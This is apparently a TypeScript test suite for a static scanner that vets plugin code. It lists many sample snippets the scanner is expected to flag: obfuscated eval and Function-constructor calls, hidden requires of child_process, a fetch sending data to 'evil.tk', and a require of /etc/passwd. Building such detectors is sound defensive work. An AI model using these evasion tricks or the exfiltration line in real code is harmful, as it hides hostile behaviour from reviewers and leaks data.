import type { ScanReport } from '@conductor/contracts';
import { PluginManifest } from '@conductor/contracts';
import { manifestOf, PluginTree, SHOUTING_ENTRY } from '../testing/plugin-tree';
import { listTree } from './file-tree';
import { scanPlugin, type ScanOptions } from './static-scan';

let tree: PluginTree;
beforeEach(() => (tree = new PluginTree()));
afterEach(() => tree.remove());

const scan = async (files: Record<string, string>, permissions: Record<string, unknown> = {}, options?: ScanOptions) => {
  for (const [file, content] of Object.entries(files)) tree.write(file, content);
  return scanPlugin(tree.root, await listTree(tree.root), PluginManifest.parse(manifestOf('p', '1.0.0', { permissions })).conductor.permissions, options);
};
const kindsIn = ({ findings }: ScanReport, file: string) => findings.filter((finding) => finding.file === file).map(({ kind }) => kind);

it('finds nothing in a plugin that is as it should be', async () => {
  const files = { 'index.js': SHOUTING_ENTRY, 'node_modules/dep/index.js': 'module.exports = require("node:path");', 'lib.mjs': 'import dep from "dep"; import "./index.js"; export default dep;', 'README.md': 'eval(x)' };

  expect(await scan(files)).toMatchObject({ files: 3, imports: ['./index.js', '@conductor/platform-kit', 'dep', 'node:path'], findings: [] });
});

const SAMPLES: Array<[string, string, string, string]> = [
  ['eval', 'eval.js', 'eval(input)', 'unsafe-stmt'],
  ['code made of text', 'function.js', 'new Function("return 1")()', 'unsafe-stmt'],
  ['an import that cannot be told', 'dynamic.js', 'require(something())', 'unsafe-import'],
  ['the environment as text', 'environment.js', 'const all = JSON.stringify(process.env);', 'serialize-environment'],
  ['Node’s insides', 'binding.js', 'process.binding("fs")', 'native-binding'],
  ['changed built-ins', 'patch.js', 'Array.prototype.map = function () {}', 'monkey-patch'],
  ['a shady address', 'address.js', 'fetch("http://evil.tk/?d=" + data)', 'shady-link'],
  ['files elsewhere', 'elsewhere.js', 'require("../../secret.js")', 'unexpected-import'],
  ['files elsewhere by an absolute path', 'absolute.js', 'require("/etc/passwd")', 'unexpected-import'],
  ['code in a file that looks like none', 'hidden.js', 'require("./notes.txt")', 'unexpected-import'],
  ['a database behind the sandbox’s back', 'database.js', 'require("node:sqlite")', 'unexpected-import'],
  ['a package that is not there', 'package.js', 'require("left-pad")', 'missing-package'],
  ['what is no JavaScript', 'broken.js', 'this is { not', 'parsing-error'],
  ['what breaks its reader', 'deep.js', '['.repeat(200_000), 'parsing-error'],
  ['code in a package below', 'node_modules/dep/index.js', 'eval(x)', 'unsafe-stmt'],
  ['code in a file without an ending', 'tool', 'eval(y)', 'unsafe-stmt'],
  ['code that is too long to be read', 'huge.js', '//'.padEnd(6 * 1024 * 1024, 'x'), 'too-large'],
  ['a binary', 'addon.node', '', 'binary'],
  ['an import of what was not asked for', 'spawn.js', 'require("child_process")', 'import-not-permitted'],
  ['the same in an ES module', 'workers.mjs', 'import { Worker } from "node:worker_threads";', 'import-not-permitted'],
  ['the same behind a variable', 'inspector.js', 'const name = "inspector"; require(name);', 'import-not-permitted'],
  ['the same through the process', 'network.js', 'process.getBuiltinModule("node:https")', 'import-not-permitted'],
];

it('finds what a person should look at, file by file', async () => {
  const report = await scan(Object.fromEntries(SAMPLES.map(([, file, code]) => [file, code])));

  expect(report.incomplete).toBeUndefined();
  for (const [what, file, , kind] of SAMPLES) expect([what, kindsIn(report, file)]).toEqual([what, expect.arrayContaining([kind])]);
  // What matters most comes first.
  expect(report.findings[0]).toMatchObject({ severity: 'critical' });
  expect(report.findings.find(({ file }) => file === 'spawn.js')).toMatchObject({ severity: 'critical', line: 1, message: expect.stringContaining('permissions.childProcess') });
});

it('minds no import that the manifest asks for', async () => {
  const files = { 'index.js': 'require("child_process"); require("worker_threads"); require("https"); require("inspector");' };

  expect(await scan(files, { childProcess: true, workers: true, inspector: true, net: ['api.example.org'] })).toMatchObject({ findings: [] });
});

it('ends in time, and says at which file', async () => {
  expect(await scan({ 'index.js': SHOUTING_ENTRY }, {}, { timeoutMs: 1 })).toMatchObject({ files: 0, incomplete: '"index.js" could not be read: it took longer than 1 ms' });
});

it('ends when nobody wants to know any more', async () => {
  expect(await scan({ 'index.js': SHOUTING_ENTRY }, {}, { signal: AbortSignal.abort() })).toMatchObject({ incomplete: expect.stringContaining('it was stopped') });
});

/** As somebody would write it who does not want the reader of the code to see what runs. */
const HIDDEN: Array<[how: string, code: string, kind: string]> = [
  ['eval under another name', 'const run = eval; module.exports = (text) => run(text);', 'indirect-eval'],
  ['eval that is called indirectly', 'module.exports = (text) => (0, eval)(text);', 'indirect-eval'],
  ['eval with a question mark', 'module.exports = (text) => eval?.(text);', 'indirect-eval'],
  ['eval out of a list', 'module.exports = (text) => [eval][0](text);', 'indirect-eval'],
  ['eval of the global object', 'module.exports = (text) => globalThis.eval(text);', 'indirect-eval'],
  ['eval of this, where that is the global object', 'module.exports = function (text) { return this.eval(text); };', 'indirect-eval'],
  ['the loader’s table of endings', "const Module = require('module'); Module._extensions['.dat'] = Module._extensions['.js'];", 'loader-internals'],
  ['eval taken apart', 'const { eval: run } = globalThis; module.exports = (text) => run(text);', 'indirect-eval'],
  ['eval through Reflect', 'module.exports = (text) => Reflect.apply(eval, null, [text]);', 'indirect-eval'],
  ['eval by a name in pieces', "module.exports = (text) => globalThis['ev' + 'al'](text);", 'computed-member'],
  ['eval by a name of character codes', 'const name = String.fromCharCode(101, 118, 97, 108); module.exports = (text) => global[name](text);', 'computed-member'],
  ['eval by a name in base64', "module.exports = (text) => globalThis[atob('ZXZhbA==')](text);", 'computed-member'],
  ['eval by a name backwards', "module.exports = (text) => globalThis['lave'.split('').reverse().join('')](text);", 'computed-member'],
  ['a global member by any name', 'module.exports = (name, text) => globalThis[name](text);', 'computed-member'],
  ['a member of the process by any name', 'const p = process; module.exports = (name) => p[name];', 'computed-member'],
  ['a member through Reflect', "module.exports = (text) => Reflect.get(globalThis, 'Func' + 'tion')(text)();", 'computed-member'],
  ['a member through its descriptor', "module.exports = () => Object.getOwnPropertyDescriptor(globalThis, 'eval').value;", 'computed-member'],
  ['a look through the global object', 'module.exports = (text) => Object.getOwnPropertyNames(globalThis).map((name) => name);', 'computed-member'],
  ['the constructor of a constructor', "module.exports = (text) => [].filter.constructor.constructor(text)();", 'function-constructor'],
  ['the same in brackets', "module.exports = (text) => ''['constructor']['constructor'](text)();", 'function-constructor'],
  ['the same in pieces', "const c = 'const' + 'ructor'; module.exports = (text) => ''[c][c](text)();", 'computed-member'],
  ['the constructor of a function', "module.exports = (text) => (() => {}).constructor(text)();", 'function-constructor'],
  ['a constructor taken apart', 'const { constructor: Make } = () => {}; module.exports = (text) => Make(text)();', 'function-constructor'],
  ['a constructor that is given text', "const f = require('node:path').join; module.exports = () => f.constructor('return process')();", 'function-constructor'],
  ['the constructor of a prototype', "module.exports = (text) => Function.prototype.constructor(text)();", 'function-constructor'],
  ['AsyncFunction', 'const AsyncFunction = (async () => {}).constructor; module.exports = (text) => new AsyncFunction(text)();', 'function-constructor'],
  ['AsyncFunction by its prototype', 'const AsyncFunction = Object.getPrototypeOf(async function () {}).constructor; module.exports = (text) => AsyncFunction(text)();', 'function-constructor'],
  ['GeneratorFunction', 'const G = Object.getPrototypeOf(function* () {}).constructor; module.exports = (text) => G(text)().next();', 'function-constructor'],
  ['AsyncGeneratorFunction', 'const G = Reflect.getPrototypeOf(async function* () {}).constructor; module.exports = (text) => G(text)().next();', 'function-constructor'],
  ['a constructor by __proto__', 'module.exports = (text, f) => f.__proto__.constructor(text)();', 'function-constructor'],
  ['Function under another name', 'const Make = Function; module.exports = (text) => Make(text)();', 'function-constructor'],
  ['Function through Reflect', 'module.exports = (text) => Reflect.construct(Function, [text])();', 'function-constructor'],
  ['Function as a class to extend', 'class Make extends Function {} module.exports = (text) => new Make(text)();', 'function-constructor'],
  ['Function that is bound', 'module.exports = (text) => Function.bind(null, text)()();', 'function-constructor'],
  ['require of the module', "const fs = module.require('fs');", 'hidden-import'],
  ['require of the main module', "const fs = process.mainModule.require('fs');", 'hidden-import'],
  ['require of the main module by require', "const fs = require.main.require('fs');", 'hidden-import'],
  ['require taken out of the module', 'const { require: load } = module; module.exports = (name) => load(name);', 'hidden-import'],
  ['require that is handed on', 'const use = (load, name) => load(name); module.exports = (name) => use(require, name);', 'hidden-import'],
  ['require that is called by call', 'module.exports = (name) => require.call(module, name);', 'unsafe-import'],
  ['require under another name', 'const load = require; module.exports = (name) => load(name);', 'unsafe-import'],
  ['require that is bound', 'const load = require.bind(null); module.exports = (name) => load(name);', 'unsafe-import'],
  ['import of a variable', 'module.exports = (name) => import(name);', 'unsafe-import'],
  ['import of what a variable holds a part of', 'module.exports = (name) => import(`node:${name}`);', 'unsafe-import'],
  ['a module of Node’s by any name', 'module.exports = (name) => process.getBuiltinModule(name);', 'unsafe-import'],
  ['a module of Node’s by any name, taken apart', 'const { getBuiltinModule: load } = process; module.exports = (name) => load(name);', 'unsafe-import'],
  ['the loader of modules', "module.exports = (name) => require('node:module')._load(name);", 'loader-internals'],
  ['a text that is compiled as a module', 'module.exports = (text) => new module.constructor()._compile(text, "x");', 'loader-internals'],
  ['endings that count as code', "require.extensions['.dat'] = require.extensions['.js'];", 'loader-internals'],
  ['Node’s insides taken apart', 'const { binding } = process; module.exports = () => binding("fs");', 'native-binding'],
  ['Node’s insides by a name in pieces', "module.exports = () => process['bin' + 'ding']('fs');", 'native-binding'],
  ['a name in escapes', 'module.exports = (text) => \\u0065val(text);', 'escaped-identifier'],
  ['a name with one escape', 'module.exports = () => pr\\u{6f}cess.title;', 'escaped-identifier'],
  ['a worker of a text', 'const { Worker } = require("worker_threads"); module.exports = (text) => new Worker(text, { eval: true });', 'unsafe-stmt'],
  ['a worker of anything', 'const { Worker } = require("worker_threads"); module.exports = (file) => new Worker(file);', 'unsafe-import'],
  ['a worker of an address', 'const { Worker } = require("worker_threads"); new Worker(new URL("data:text/javascript,1"));', 'unexpected-import'],
  ['an import of an address', 'import("data:text/javascript,1");', 'unexpected-import'],
  ['a context of its own', 'const vm = require("node:vm"); module.exports = (text) => vm.runInThisContext(text);', 'unexpected-import'],
  ['WebAssembly under another name', 'const W = WebAssembly; module.exports = (bytes) => new W.Module(bytes);', 'wasm'],
  ['WebAssembly of the global object', 'const { instantiate } = globalThis.WebAssembly; module.exports = (bytes) => instantiate(bytes);', 'wasm'],
];

/** Read at once: a reading process for each of them would take its time. */
let read: Promise<ScanReport> | undefined;
const fileOf = (code: string) => `${Buffer.from(code).toString('hex').slice(-120)}.js`;
const kindsOf = async (code: string) => kindsIn(await (read ??= scan(Object.fromEntries([...HIDDEN.map(([, hidden]) => hidden), ...NOT_ASKED_FOR.map(([, hidden]) => hidden)].map((one) => [fileOf(one), one])))), fileOf(code));

it.each(HIDDEN)('names %s', async (_, code, kind) => {
  expect(await kindsOf(code)).toContain(kind);
});

const NOT_ASKED_FOR: Array<[how: string, code: string]> = [
  ['in pieces', "require('child_' + 'process')"],
  ['in a template', "const a = 'process'; require(`child_${a}`)"],
  ['out of a list', "require(['child', 'process'].join('_'))"],
  ['in hexadecimal', "require(Buffer.from('6368696c645f70726f63657373', 'hex').toString())"],
  ['by import()', "const name = 'node:child' + '_process'; import(name)"],
  ['by require of the module', "module.require('child_process')"],
  ['by a require of its own', "const { createRequire } = require('node:module'); const load = createRequire(__filename); load('child_process')"],
  ['by a require of its own in an ES module', "import { createRequire as make } from 'node:module'; const load = make(import.meta.url); load('child_process')"],
  ['by require under another name', "const r = require; r('child_process')"],
  ['by a comma', "(0, require)('child_process')"],
  ['by apply', "require.apply(null, ['child_process'])"],
  ['by Reflect', "Reflect.apply(require, null, ['child_process'])"],
  ['by the process under another name', "import p from 'node:process'; p.getBuiltinModule('child_process')"],
  ['by the process, taken apart', "const { getBuiltinModule } = process; getBuiltinModule('child_' + 'process')"],
  ['by the loader', "const { _load } = require('node:module'); _load('child_process')"],
];

it.each(NOT_ASKED_FOR)('sees an import that was not asked for, whose name comes %s', async (_, code) => {
  expect(await kindsOf(code)).toContain('import-not-permitted');
});

const HARMLESS = 'module.exports = 1;';
it.each<[string, Record<string, string>, string]>([
  ['a text', { 'index.js': 'require("./notes.txt")', 'notes.txt': HARMLESS }, 'index.js'],
  ['a licence', { 'index.js': 'require("./LICENSE")', LICENSE: HARMLESS }, 'index.js'],
  ['a hidden file', { 'index.js': 'require("./.cache")', '.cache': HARMLESS }, 'index.js'],
  ['a declaration of types', { 'index.js': 'require("./types.d.ts")', 'types.d.ts': HARMLESS }, 'index.js'],
  ['an ending that only looks like data', { 'index.js': 'require("./data.JSON")', 'data.JSON': HARMLESS }, 'index.js'],
  ['a picture, by a name in pieces', { 'index.js': 'require("./pic" + ".png")', 'pic.png': HARMLESS }, 'index.js'],
  ['a text, by import()', { 'index.js': 'const f = "./notes.md"; import(f)', 'notes.md': HARMLESS }, 'index.js'],
  ['a text as a worker', { 'index.js': 'const { Worker } = require("worker_threads"); new Worker("./notes.txt")', 'notes.txt': HARMLESS }, 'index.js'],
  ['the entry of a package', { 'node_modules/dep/package.json': '{"main":"data.txt"}', 'node_modules/dep/data.txt': HARMLESS }, 'node_modules/dep/package.json'],
  ['an alias of a package', { 'package.json': '{"imports":{"#x":"./styles.css"}}', 'styles.css': HARMLESS }, 'package.json'],
  ['what a package exports', { 'node_modules/dep/package.json': '{"exports":{".":{"types":"./a.d.ts","default":"./a.map"}}}', 'node_modules/dep/a.map': HARMLESS }, 'node_modules/dep/package.json'],
])('sees code in a file that nobody takes for code: %s', async (_, files, file) => {
  expect(kindsIn(await scan(files, { workers: true }), file)).toContain('unexpected-import');
});

it('minds nothing of what honest code does with the same words', async () => {
  const code = `
    const fs = require('node:fs'); const { join } = require('node:path'); const data = require('./data.json');
    if (require.main === module) console.log(typeof Function, (() => {}) instanceof Function, Function.prototype.call.bind(String));
    class A { static of() { return new this.constructor.Inner(); } clone() { return new this.constructor(this.x); } eval(x) { return x; } get name() { return this.constructor.name; } }
    const table = { constructor: 1, eval: 2 }; const list = ['a', 'b']; module.exports = (key) => table[key] + list[0] + process.env['HOME'] + process.version[0];
    class Client { constructor() { this._extensions = {}; } run(redis) { return redis.eval('return 1', 0); } } module.exports.require = 1; new Client(); Object.keys(table); Reflect.ownKeys(data); new A().clone(); import('./other.mjs');`;
  expect((await scan({ 'index.js': code, 'data.json': '{}', 'other.mjs': 'export {};', 'package.json': '{"main":"index.js","types":"index.d.ts"}' })).findings).toEqual([]);
});
